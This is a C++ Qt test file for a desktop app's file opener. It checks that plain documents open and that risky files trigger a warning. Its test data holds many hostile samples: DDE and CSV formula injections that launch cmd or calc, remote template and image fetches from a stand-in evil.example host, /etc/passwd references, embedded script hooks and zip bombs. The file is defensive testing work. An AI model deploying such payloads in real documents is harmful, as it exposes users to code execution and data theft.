// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/files/opener.h"
#include "app/files/opening.h"
#include "tests/support/folders.h"
#include "tests/support/made_archive.h"
#include "tests/support/subject.h"
#include "tests/support/watchdog.h"

#include <QDesktopServices>
#include <QDirIterator>
#include <QFile>
#include <QHash>
#include <QMessageBox>
#include <QPushButton>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

using namespace Qt::StringLiterals;

using support::archive;
using Part = support::ArchivePart;

static const QByteArray kVendor = "application/vnd.openxmlformats-officedocument.";
static const QByteArray kWord = kVendor + "wordprocessingml.document.main+xml";
static const QByteArray kExcel = kVendor + "spreadsheetml.sheet.main+xml";
static const QByteArray kPowerPoint = kVendor + "presentationml.presentation.main+xml";
static const QByteArray kText = "application/vnd.oasis.opendocument.text";
static const QByteArray kSheets = "application/vnd.oasis.opendocument.spreadsheet";

static QByteArray declared(const QByteArray &part, const QByteArray &type)
{
    return "<Override PartName='/" + part + "' ContentType='" + type + "'/>";
}

static QByteArray related(const QByteArray &kind, const QByteArray &target, const QByteArray &more = {})
{
    return "<Relationship Type='" + kind + "' Target='" + target + "' " + more + "/>";
}

/// What is said of the parts of a document of that type.
static QByteArray types(const QByteArray &type = kWord, const QByteArray &more = {})
{
    return "<Types>" + declared("word/document.xml", type) + more + "</Types>";
}

/// What has no content says nothing. It is a document of Word's if it says of which parts it is made.
static QByteArray zip(const QList<QByteArray> &names, const QHash<QByteArray, QByteArray> &contents = {})
{
    QList<Part> parts;
    for (const QByteArray &name : names) {
        const bool isSilent = !name.endsWith(".xml") || name.startsWith("Configurations2");
        const QByteArray standing = name == "[Content_Types].xml" ? types()
            : isSilent                                            ? QByteArray()
                                                                  : "<a/>";
        const QByteArray content = contents.value(name, standing);
        parts << Part{name, content, quint32(content.size())};
    }
    return archive(parts);
}

/// That many relations, each of 1 MiB once it is unpacked; `isOnce`: there is but one of them in the file.
static QByteArray bomb(int count, bool isOnce)
{
    const QByteArray content = "<a>" + QByteArray((1 << 20) - 7, ' ') + "</a>";
    const QByteArray packed = qCompress(content, 9).sliced(6).chopped(4);
    QList<Part> parts{{"[Content_Types].xml", types(), quint32(types().size())}};
    for (int i = 0; i < count; ++i)
        parts << Part{"x.rels", packed, quint32(content.size()), 8, isOnce && i > 0};
    return archive(parts);
}

/// An OpenDocument with that in its content.
static QByteArray openDocument(const QByteArray &type, const QByteArray &content,
                               const QByteArray &manifest = "<m/>")
{
    return zip({"mimetype", "content.xml", "Pictures/a.png", "Configurations2/accelerator/current.xml",
                "META-INF/manifest.xml"},
               {{"mimetype", type},
                {"content.xml",
                 "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' "
                 "xmlns:script='urn:oasis:names:tc:opendocument:xmlns:script:1.0' xmlns:xlink='x' "
                 "xmlns:text='t' xmlns:draw='d' xmlns:table='b' xmlns:presentation='p'><office:scripts/>"
                     + content + "</office:document-content>"},
                {"META-INF/manifest.xml", manifest}});
}

/// A document of Word's with that in its text.
static QByteArray word(const QByteArray &text)
{
    return zip({"[Content_Types].xml", "word/document.xml"},
               {{"word/document.xml", "<w:document xmlns:w='w'>" + text + "</w:document>"}});
}

static QByteArray field(const QByteArray &inside)
{
    return "<w:fldChar w:fldCharType='begin'/>" + inside + "<w:fldChar w:fldCharType='end'/>";
}

/// A workbook of Excel's with that in its sheet.
static QByteArray workbook(const QByteArray &sheet)
{
    return zip({"[Content_Types].xml", "xl/worksheets/sheet1.xml"},
               {{"[Content_Types].xml", types(kExcel)},
                {"xl/worksheets/sheet1.xml", "<worksheet xmlns='m'>" + sheet + "</worksheet>"}});
}

static QByteArray cell(const QByteArray &formula) { return "<c r='A1'><f>" + formula + "</f><v>1</v></c>"; }

/// A document of Word's whose parts are declared and related so.
static QByteArray office(const QByteArray &more, const QByteArray &relations)
{
    return zip(
        {"[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels", "word/media/a.png"},
        {{"[Content_Types].xml", types(kWord, more)},
         {"word/_rels/document.xml.rels", "<Relationships>" + relations + "</Relationships>"}});
}

class tst_Opening : public QObject
{
    Q_OBJECT
private slots:
    void init() { m_opened.clear(); }
    void cleanup() { QDesktopServices::unsetUrlHandler(u"file"_s); }

    void opensWhatAViewerShows_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QByteArray>("content");
        const auto row = [](const QString &name, const QByteArray &content) {
            QTest::addRow("%s", qPrintable(name)) << name << content;
        };
        row(u"a.txt"_s, "plain\n");
        row(u"naïve.txt"_s, "na\xc3\xafve");
        row(u"empty.csv"_s, "");
        row(u"orders.csv"_s, "a;b\r\n1;2\r\n");
        row(u"ORDERS.TSV"_s, "a\tb\n");
        row(u"a.json"_s, "{\"a\": 1}");
        row(u"notes.md"_s, "# Notes\n");
        row(u"a.png"_s, "\x89PNG\r\n\x1a\n....");
        row(u"a.jpg"_s, "\xff\xd8\xff\xe0....");
        row(u"a.jpeg"_s, "\xff\xd8\xff\xe1....");
        row(u"a.gif"_s, "GIF89a....");
        row(u"a.webp"_s, "RIFF....WEBPVP8 ");
        row(u"a.pdf"_s, "%PDF-1.7\n");
        row(u"a.docx"_s, zip({"[Content_Types].xml", "word/document.xml"}));
        row(u"a.pptx"_s, zip({"[Content_Types].xml"}, {{"[Content_Types].xml", types(kPowerPoint)}}));
        row(u"a.xlsx"_s,
            workbook(cell("SUM(A1:A2)/'S 1'!A1+IF(A1&gt;0,&quot;a/b&quot;,#REF!)")
                     + cell("T['#a]/T[[#This Row],[a/b]]+'S 1:it''s'!B2+[0]!Name")
                     + cell("HYPERLINK(&quot;https://example.org&quot;,&quot;a&quot;)")
                     + "<c><is><t>=DDE(1)</t></is></c>"));
        row(u"math.docx"_s,
            word("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'>"
                 "<m:num><m:r><m:t>P(a|b) n!</m:t></m:r></m:num></m:f>"));
        row(u"a.odt"_s, openDocument(kText, "", "<m><f full-path='/' media-type='" + kText + "'/></m>"));
        row(u"a.ods"_s,
            openDocument(
                kSheets,
                "<draw:image xlink:href='Pictures/a.png'/><text:a xlink:href='https://example.org'/>"
                "<text:a xlink:href='#there'/><table:table-cell table:formula='of:=SUM([.A1:.A2])'/>"));
        row(u"fields.docx"_s,
            word(field("<w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType='separate'/>")
                 + field("<w:instrText> HYPERLINK \"https://example.org/hidden\" </w:instrText>"
                         + field("<w:instrText>REF a</w:instrText>"))
                 + "<w:fldSimple w:instr=' TOC '/>"));
        row(u"many.docx"_s, bomb(4, false));
        row(u"numbers.csv"_s,
            "-1;+2;=A1+B1\n\"=SUM(A1:A2)\",\"a \"\"DDE(\"\" b\",DDE(\"x\")\n- a, @b\n"
            "-5;https://example.org/a#b;it's [a/b] c!;image (1).png\n='S 1'!A1/2\n");
        row(u"links.docx"_s,
            office("<Default Extension='png' ContentType='image/png'/>",
                   "<Relationship "
                   "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' "
                   "Target='https://example.org' TargetMode='External'/><Relationship "
                   "Type='http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
                   "core-properties' "
                   "Target='docProps/core.xml'/>"));
        row(u"a.bmp"_s, "BM....");
        row(u"a.mp3"_s, "ID3\x04....");
        row(u"a.wav"_s, "RIFF....WAVEfmt ");
        row(u"a.ogg"_s, "OggS....");
        row(u"a.mp4"_s, QByteArray("\0\0\0\x20", 4) + "ftypisom");
        row(u"a.webm"_s, "\x1a\x45\xdf\xa3....");
    }
    void opensWhatAViewerShows()
    {
        QFETCH(QString, name);
        QFETCH(QByteArray, content);
        const auto opening = files::openingOf(file(name, content));
        QVERIFY2(opening.isShown, qPrintable(opening.what));
    }

    void asksAboutAllElse_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("what");
        const auto row = [](const QString &name, const QByteArray &content, const char *what) {
            static int count = 0;
            QTest::addRow("%d %s", ++count, qPrintable(name)) << name << content << QString::fromLatin1(what);
        };
        const QByteArray launcher = "[Desktop Entry]\nType=Application\nExec=true\n";
        row(u"a.desktop"_s, launcher, "launcher");
        row(u"a.txt"_s, launcher, "launcher");
        row(u"a.csv"_s, "# nothing\n" + launcher, "launcher");
        row(u"a.txt"_s, "\xef\xbb\xbf" + launcher, "launcher");
        row(u"a.url"_s, "[InternetShortcut]\nURL=file:///", "launcher");
        row(u"a.sh"_s, "echo", "script");
        row(u"a.txt"_s, "#!/bin/sh\n", "script");
        row(u"a.csv"_s, "\xef\xbb\xbf#!/bin/sh\n", "script");
        row(u"a.py"_s, "print()", "script");
        row(u"a.txt"_s, "@echo off\r\n", "script");
        row(u"a"_s,
            "\x7f"
            "ELF\2\1\1",
            "program");
        row(u"a.png"_s,
            "\x7f"
            "ELF\2\1\1",
            "program");
        row(u"a.pdf"_s, "MZ\x90", "program");
        row(u"a.exe"_s, "x", "program");
        row(u"a.pdf.exe"_s, "%PDF-1.7", "program");
        row(u"a.AppImage"_s, "x", "program");
        row(u"a.jar"_s, zip({"META-INF/MANIFEST.MF"}), "program");
        row(u"a.html"_s, "<html>", "page");
        row(u"a.txt"_s, "<!DOCTYPE html><script>", "page");
        row(u"a.csv"_s, "\n\n  <html>", "page");
        row(u"a.svg"_s, "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "picture that");
        row(u"a.png"_s, "<?xml version='1.0'?><svg/>", "picture that");
        row(u"a.docm"_s, zip({"[Content_Types].xml"}), "macros");
        row(u"a.xlsm"_s, zip({"[Content_Types].xml"}), "macros");
        row(u"a.docx"_s, zip({"[Content_Types].xml", "word/vbaProject.bin"}), "macros");
        row(u"a.xlsx"_s, zip({"[Content_Types].xml", "xl/VBAPROJECT.BIN"}), "macros");
        row(u"a.xlsx"_s, zip({"[Content_Types].xml", "xl/macrosheets/sheet1.xml"}), "macros");
        row(u"a.odt"_s, zip({"mimetype", "content.xml", "Basic/Standard/x.xml"}), "macros");
        row(u"a.xlsx"_s, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "macros");
        row(u"a.doc"_s, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "macros");
        row(u"a.docx"_s, zip({"META-INF/MANIFEST.MF"}), "could fetch");
        row(u"a.docx"_s, "PK\3\4 and no list of what is in it", "could fetch");
        row(u"a.png"_s, "GIF89a", "name says");
        row(u"a.gif"_s, "\x89PNG\r\n\x1a\n", "name says");
        row(u"a.pdf"_s, "x%PDF-1.7", "name says");
        row(u"a.pdf"_s, "", "name says");
        row(u"a.txt"_s, QByteArray("a\0b", 3), "name says");
        row(u"a.txt"_s, "a\x1b[2J", "name says");
        row(u"a.txt"_s, "a\xff\xfe", "name says");
        row(u"a"_s, "text", "not known");
        // Macros under another name, what fetches something, and what cannot be read.
        const QByteArray vba = "application/vnd.ms-office.vbaProject";
        row(u"a.docx"_s, office("<Override PartName='/word/media/a.png' ContentType='" + vba + "'/>", ""),
            "could fetch");
        row(u"b.docx"_s,
            office("<Default Extension='png' ContentType='application/vnd.ms-office.vba&#80;roject'/>", ""),
            "could fetch");
        row(u"c.docx"_s,
            office("",
                   "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' "
                   "Target='media/a.png'/>"),
            "could fetch");
        row(u"d.docx"_s,
            office("",
                   "<Relationship Type='http://x/relationships/attachedTemplate' TargetMode='External' "
                   "Target='http://evil.example/a.dotm'/>"),
            "could fetch");
        row(u"e.docx"_s, office("<Override", ""), "could fetch");
        row(u"f.docx"_s,
            zip({"[Content_Types].xml"}, {{"[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>"}}),
            "could fetch");
        // What is hidden from who looks for it, or wears them out.
        row(u"once.docx"_s, bomb(5000, true), "could fetch");
        row(u"much.docx"_s, bomb(60, false), "could fetch");
        row(u"part.docx"_s, office(declared("word/media/a.png", kWord), ""), "could fetch");
        row(u"dde.xlsx"_s, workbook(cell("cmd|&apos;/c calc&apos;!A1")), "could fetch");
        row(u"dde.docx"_s,
            word(field("<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd a</w:instrText>")),
            "could fetch");
        row(u"nested.docx"_s,
            word(field(field("<w:instrText>QUOTE 68 68 69</w:instrText>") + "<w:instrText>a</w:instrText>")),
            "could fetch");
        row(u"simple.docx"_s, word("<w:fldSimple w:instr=' ddeauto c:\\a '/>"), "could fetch");
        row(u"open.docx"_s, word("<w:fldChar w:fldCharType='begin'/><w:instrText>DDE a</w:instrText>"),
            "could fetch");
        for (const QByteArray active :
             {"<script:event-listener xlink:href='vnd.sun.star.script:a?language=Python'/>",
              "<office:script/>", "<text:dde-connection-decl office:dde-application='soffice'/>",
              "<draw:image xlink:href='http://evil.example/a.png'/>",
              "<draw:image xlink:href='../../../etc/passwd'/>", "<draw:object xlink:href='/etc/passwd'/>",
              "<text:section-source xlink:href='file:///etc/passwd'/>",
              "<text:a xlink:href='vnd.sun.star.script:a'/>", "<text:a xlink:href='.uno:Quit'/>",
              "<presentation:event-listener presentation:action='execute' xlink:href='file:///bin/sh'/>",
              "<table:table-cell table:formula='of:=DDE (\"soffice\";\"a\";\"b\")'/>",
              "<table:table-cell table:formula='of:=[&apos;file:///a.ods&apos;#$A.A1]'/>", "<draw:plugin/>",
              "<!-- -->&what;", "<"})
            row(u"a.odt"_s, openDocument(kText, active), "could fetch");
        row(u"a.ods"_s, openDocument(kSheets, "", "<m media-type='application/vnd.sun.star.oleobject'/>"),
            "could fetch");
        // What is not what its name says, or two things at once.
        row(u"a.xlsx"_s, zip({"[Content_Types].xml"}), "could fetch");
        row(u"a.docx"_s, openDocument(kText, ""), "could fetch");
        row(u"a.odt"_s, openDocument(kSheets, ""), "could fetch");
        row(u"a.odt"_s, openDocument(kText, "", "<m><f full-path='/' media-type='" + kSheets + "'/></m>"),
            "could fetch");
        row(u"a.docx"_s,
            zip({"mimetype", "content.xml", "[Content_Types].xml", "word/_rels/settings.xml.rels"},
                {{"mimetype", kText}}),
            "could fetch");
        row(u"a.docx"_s, zip({"[Content_Types].xml", "META-INF/manifest.xml"}), "could fetch");
        row(u"a.docx"_s, zip({"[Content_Types].xml", "word\\document.xml"}), "could fetch");
        row(u"a.odt"_s, zip({"[Content_Types].xml", "mimetype", "content.xml"}, {{"mimetype", kText}}),
            "could fetch");
        row(u"a.odt"_s, zip({"[Content_Types].xml", "content.xml"}, {{"content.xml", "<script/>"}}),
            "could fetch");
        row(u"a.docm.docx"_s,
            zip({"[Content_Types].xml"},
                {{"[Content_Types].xml", types("application/vnd.ms-word.document.macroEnabled.main+xml")}}),
            "could fetch");
        // What is active wherever it lies, and what is read though it looks like a picture.
        const QByteArray kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        for (const QByteArray kind : {"externalLink", "connections", "queryTable", "oleObject", "package",
                                      "control", "attachedToolbars", "volatileDependencies", "whatever"}) {
            row(QString::fromLatin1(kind) + u".docx"_s, office("", related(kinds + kind, "a.xml")),
                "could fetch");
            row(QString::fromLatin1(kind) + u".docx"_s,
                office(declared("word/a.xml", kVendor + "spreadsheetml." + kind + "+xml"), ""),
                "could fetch");
        }
        row(u"a.docx"_s, office("", related(kinds + "worksheet", "media/a.png")), "could fetch");
        row(u"a.docx"_s, office("", related(kinds + "worksheet", "media/a.png?.xml")), "could fetch");
        row(u"a.docx"_s, office("", related(kinds + "worksheet", "file:///a.xml")), "could fetch");
        row(u"a.docx"_s,
            office("<Default Extension='png' ContentType='" + kVendor + "spreadsheetml.worksheet+xml'/>", ""),
            "could fetch");
        row(u"merge.docx"_s, word("<w:mailMerge/>"), "could fetch");
        row(u"vml.docx"_s, word("<v:imagedata xmlns:v='v' src='http://evil.example/a.png'/>"), "could fetch");
        row(u"a.docx"_s, word("<a:hlinkMouseOver xmlns:a='a' action='ppaction://program'/>"), "could fetch");
        for (const QByteArray &active :
             {cell("_xlfn.WEBSERVICE(&quot;http://x&quot;)"), cell("1+<!-- -->D<![CDATA[DE(1)]]>"),
              cell("&apos;http://x/[a.xlsx]S&apos;!A1"), cell("'http://x/[a.xlsx]it''s'!A1"),
              cell("[http://x/a.xlsx]S!A1"), cell("'\\\\x\\a.xlsx'!A1"), cell("'http://x/a.ods'#$S.A1"),
              cell("INDIRECT(A1)"), cell("_xlfn.IMAGE(A1)"),
              QByteArray("<dataValidation><x:formula1 xmlns:x='x'><xm:f xmlns:xm='y'>DDE(1)</xm:f>"
                         "</x:formula1></dataValidation>"),
              QByteArray("<definedName name='a'>DDE(1)</definedName>"),
              QByteArray("<calculatedItem formula='DDE(1)'/>"),
              QByteArray("<cfvo type='formula' val='DDE(1)'/>")})
            row(u"a.xlsx"_s, workbook(active), "could fetch");
        for (const QByteArray active :
             {"<table:named-expression table:expression='of:=WEBSERVICE([.A1])'/>",
              "<table:content-validation table:condition='of:is-true-formula(INDIRECT([.A1]))'/>",
              "<table:database-source-sql/>"})
            row(u"a.ods"_s, openDocument(kSheets, active), "could fetch");
        for (const QByteArray other :
             {"%!PS-Adobe-3.0", " {\\rtf1 a}", "%PDF-1.7", "a %PDF-1.7", "a\n<html><p>", "\xef\xbb\xbf%!PS",
              "ID;PWXL\nC;X1;EDDE(1)", "#EXTM3U\nhttp://x"}) {
            for (const QString &name : {u"a.txt"_s, u"a.csv"_s, u"a.md"_s})
                row(name, other, "name says");
        }
        for (const QByteArray active :
             {"=DDE(\"a\";\"b\")", "a;b\n +hyperlink (\"x\")", "a,\"-1+WEBSERVICE(\"\"http://x\"\")\"",
              "\xef\xbb\xbf=cmd|' /C calc'!A0", "a\t@1+DDE(", "='http://x/a.ods'#$S.A1",
              "='http://x/[a.xlsx]S'!A1", "=INDIREKT(A1)", "\"=1+\n\"\"a\"\"\n+DDE(1)\""})
            row(u"a.csv"_s, active, "formulas");
        row(u"far.csv"_s, QByteArray(3 << 20, 'a') + "\n=DDE(1)\n" + QByteArray(1 << 20, 'a'), "formulas");
        row(u"a.zip"_s, zip({"a"}), "an archive");
        row(u"a.tar.gz"_s, "\x1f\x8b", "an archive");
        row(u"a.tar"_s, "a", "an archive");
        row(u"a.xyz"_s, "text", "not known");
        row(u".txt"_s, "text", "not known");
        row(u"a.txt "_s, "text", "not known");
        row(u"a\u202etxt.csv"_s, "text", "not known");
    }
    void asksAboutAllElse()
    {
        QFETCH(QString, name);
        QFETCH(QByteArray, content);
        QFETCH(QString, what);
        const auto opening = files::openingOf(file(name, content));
        QVERIFY(!opening.isShown);
        QVERIFY2(opening.what.contains(what), qPrintable(opening.what));
    }

    void macrosAreFoundAtTheEndOfALargeDocument()
    {
        QList<QByteArray> names{"[Content_Types].xml"};
        for (int i = 0; i < 2000; ++i)
            names << "word/media/a long name of a picture " + QByteArray::number(i);
        QVERIFY(files::openingOf(file(u"a.docx"_s, zip(names))).isShown);
        names << "word/vbaProject.bin";
        QVERIFY(!files::openingOf(file(u"a.docx"_s, zip(names))).isShown);
    }

    void opensDocumentsThatProgramsMade()
    {
        for (const QString &name : {u"report.docx"_s, u"sales.xlsx"_s, u"rooms.ods"_s}) {
            const auto opening =
                files::openingOf(QStringLiteral(BERTH_SOURCE_DIR "/resources/samples/") + name);
            QVERIFY2(opening.isShown, qPrintable(opening.what));
        }
    }

    void judgesElsewhere()
    {
        QWidget window;
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        const QString path = file(u"a.docx"_s, bomb(60, false));
        support::Watchdog watchdog;
        files::openFile(path, &window, [](const QString &) {});
        QTRY_VERIFY(window.findChild<QMessageBox *>());
        QVERIFY2(watchdog.longestMilliseconds() < 50,
                 qPrintable(QString::number(watchdog.longestMilliseconds())));
    }

    void givesToTheDesktopOnlyWhatAViewerShows()
    {
        QDesktopServices::setUrlHandler(u"file"_s, this, "opened");
        QWidget window;
        window.show();
        const auto noTrouble = [](const QString &text) { QFAIL(qPrintable(text)); };
        files::openFile(file(u"a.csv"_s, "a;b"), &window, noTrouble);
        QTRY_COMPARE(m_opened.size(), 1);
        QCOMPARE(m_opened.takeFirst().fileName(), u"a.csv"_s);

        files::openFile(file(u"<b>a</b>.sh"_s, "true"), &window, noTrouble);
        QTRY_VERIFY(window.findChild<QMessageBox *>());
        auto *box = window.findChild<QMessageBox *>();
        QVERIFY(m_opened.isEmpty());
        QCOMPARE(box->textFormat(), Qt::PlainText);
        QVERIFY(box->text().contains(u"script"_s));
        QCOMPARE(box->defaultButton()->text(), u"Show in Folder"_s);
        QTest::keyClick(box, Qt::Key_Return);
        QTRY_COMPARE(m_opened.size(), 1);
        QCOMPARE(m_opened.takeFirst().toLocalFile(), m_folder.path());
    }

    void escapeOpensNothing()
    {
        QDesktopServices::setUrlHandler(u"file"_s, this, "opened");
        QWidget window;
        window.show();
        files::openFile(file(u"a.desktop"_s, "x"), &window, [](const QString &) {});
        QTRY_VERIFY(window.findChild<QMessageBox *>());
        QTest::keyClick(window.findChild<QMessageBox *>(), Qt::Key_Escape);
        QTRY_VERIFY(!window.findChild<QMessageBox *>());
        QVERIFY(m_opened.isEmpty());
    }

    void opensPagesOfTheWebOnly()
    {
        QDesktopServices::setUrlHandler(u"file"_s, this, "opened");
        files::openAddress(QUrl(u"file:///etc/passwd"_s));
        QVERIFY(m_opened.isEmpty());
    }

    /// Nobody goes round opener.cpp.
    void allThatOpensAsks()
    {
        const QString app = QStringLiteral(BERTH_SOURCE_DIR "/app");
        static const QRegularExpression door(
            u"QDesktopServices|xdg-open|gio open|kde-open|gnome-open|exo-open|setOpenExternalLinks"_s);
        QStringList found;
        for (const QString &top : {app, QStringLiteral(BERTH_SOURCE_DIR "/core")}) {
            QDirIterator sources(top, {u"*.cpp"_s, u"*.h"_s}, QDir::Files, QDirIterator::Subdirectories);
            while (sources.hasNext()) {
                QFile source(sources.next());
                QVERIFY(source.open(QIODevice::ReadOnly));
                if (QString::fromUtf8(source.readAll()).contains(door))
                    found << source.fileName();
            }
        }
        QCOMPARE(found, QStringList{app + u"/files/opener.cpp"_s});
    }

    void opened(const QUrl &url) { m_opened << url; }

private:
    QString file(const QString &name, const QByteArray &content)
    {
        const QString path = m_folder.filePath(QString(name).replace(u'/', u'_'));
        QFile file(path);
        if (!file.open(QIODevice::WriteOnly) || file.write(content) != content.size())
            qFatal("no file");
        return path;
    }

    QTemporaryDir m_folder;
    QList<QUrl> m_opened;
};

BERTH_TEST(tst_Opening)
#include "tst_opening.moc"
